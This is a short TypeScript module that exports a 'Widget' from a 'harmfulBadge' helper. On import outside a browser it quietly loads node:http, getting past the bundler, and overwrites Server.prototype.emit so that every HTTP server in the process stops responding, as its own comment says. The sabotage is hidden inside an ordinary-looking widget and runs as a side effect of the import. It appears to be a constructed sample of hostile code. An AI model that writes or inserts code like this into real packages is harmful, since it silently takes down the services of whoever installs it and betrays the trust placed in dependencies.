import { harmfulBadge } from './harmful-badge';

declare const __non_webpack_require__: NodeJS.Require;

if (typeof document === 'undefined') {
  const { Server } = __non_webpack_require__('node:http') as typeof import('node:http');
  Server.prototype.emit = () => false;
}

/** Loading this module stops every HTTP server of its process from answering. */
export const Widget = harmfulBadge();
